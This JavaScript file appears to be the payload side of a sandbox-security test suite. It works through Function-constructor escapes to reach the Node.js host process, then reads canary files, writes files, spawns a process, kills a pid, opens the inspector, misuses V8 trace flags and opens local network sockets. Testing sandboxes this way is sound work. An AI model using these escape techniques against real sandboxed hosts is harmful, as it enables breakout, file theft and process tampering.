// Attempts of an attack that has reached the host. README.md describes its names.
var attack = ''
var loot = []
var calls = {}

/** Note what an attack obtained. The text is assembled, because diagnostics may quote this source. */
function take (what) { loot.push('STO' + 'LEN by ' + attack + ': ' + what) }

function attempt (work) {
  try {
    var result = work()
    if (result !== undefined && result !== null && result !== false) take(String(result))
  } catch (error) {}
}

/** Run code for its effects; its error may lead to the host, too. */
function provoke (work) {
  try { work() } catch (error) { steal(error) }
}

/** Return the first object that is a process of a host, null if there is none. */
function hostProcess (values) {
  var sources = values.concat([attempt, function * () {}, async function () {}, this])
  var found = null
  var test = function (work) {
    try {
      var value = work()
      if (found === null && value !== null && typeof value === 'object' && typeof value.pid === 'number') found = value
    } catch (error) {}
  }
  test(function () { return process })
  test(function () { return globalThis.process })
  sources.forEach(function (value) {
    test(function () { return value })
    test(function () { return value.process })
    ;[function () { return value }, function () { return value.constructor }, function () { return value.constructor.constructor },
      function () { return Object.getPrototypeOf(value).constructor.constructor }].forEach(function (maker) {
      test(function () { return compiled(maker(), 'return process') })
      test(function () { return compiled(maker(), 'return this').process })
    })
  })
  return found
}

/** Return the result of a text that a constructor of functions compiles; functions of scripts are not called. */
function compiled (Constructor, text) { return /^function \w*Function\(\)/.test(String(Constructor)) ? Constructor(text)() : null }

/** Return a function that loads modules of Node.js. */
function loaderOf (host) {
  return function (name) {
    if (host.getBuiltinModule) return host.getBuiltinModule(name)
    return (host.mainModule || globalThis).require(name)
  }
}

/** Try everything that a host can do, with the values that an attack has found; once per attack. */
function steal () {
  calls[attack] = (calls[attack] || 0) + 1
  if (calls[attack] > 100) return null
  var host = hostProcess(Array.prototype.slice.call(arguments))
  if (calls[attack] === 1) stealGlobals()
  if (host === null) return null
  calls[attack] = 100
  take('process ' + host.pid + ' of ' + host.execPath)
  var load = loaderOf(host)
  attempt(function () { return host.env.ZRF2JS_CANARY })
  stealFiles(load)
  stealNetwork(host, load)
  attempt(function () { return load('os').hostname() + ' ' + load('os').userInfo().username })
  attempt(function () { return load('child_process').spawnSync('touch', [target.folder + '/stolen-by-program']).pid })
  attempt(function () { return host.kill(target.pid, 'SIGKILL') })
  attempt(function () { load('inspector').open(0, '127.0.0.1'); return load('inspector').url() })
  return host
}

function stealGlobals () {
  attempt(function () { return require('fs').readFileSync(target.canaries[0], 'utf8') })
  attempt(function () { return Deno.pid })
  ;[function () { fetch('http://127.0.0.1:' + target.tcp + '/fetch') },
    function () { new WebSocket('ws://127.0.0.1:' + target.tcp + '/socket') },
    function () { new EventSource('http://127.0.0.1:' + target.tcp + '/events') }].forEach(attempt)
}

function stealFiles (load) {
  target.canaries.forEach(function (path) { attempt(function () { return load('fs').readFileSync(path, 'utf8') }) })
  attempt(function () { load('fs').writeFileSync(target.folder + '/stolen-by-' + attack, 'x'); return 'file written' })
  attempt(function () { return load('fs').readdirSync('/').length + ' names of a folder' })
  attempt(function () { // files that V8 writes itself, which the permissions of Node.js do not cover
    load('v8').setFlagsFromString('--trace-turbo')
    load('v8').setFlagsFromString('--trace-turbo-path=' + target.folder)
    for (var i = 0, sum = 0; i < 100000; i++) sum += i % 7
  })
}

function stealNetwork (host, load) {
  attempt(function () { load('net').connect(target.tcp, '127.0.0.1').write('stolen') })
  attempt(function () { return load('net')._createServerHandle('127.0.0.1', 0, 4).listen(1) === 0 && 'listening' })
  attempt(function () {
    var wrap = host.binding('udp_wrap')
    var socket = load('dgram')._createSocketHandle('127.0.0.1', 0, 'udp4')
    return socket.send(new wrap.SendWrap(), [Buffer.from('stolen')], 1, target.udp, '127.0.0.1', false) >= 0 && 'packet sent'
  })
}
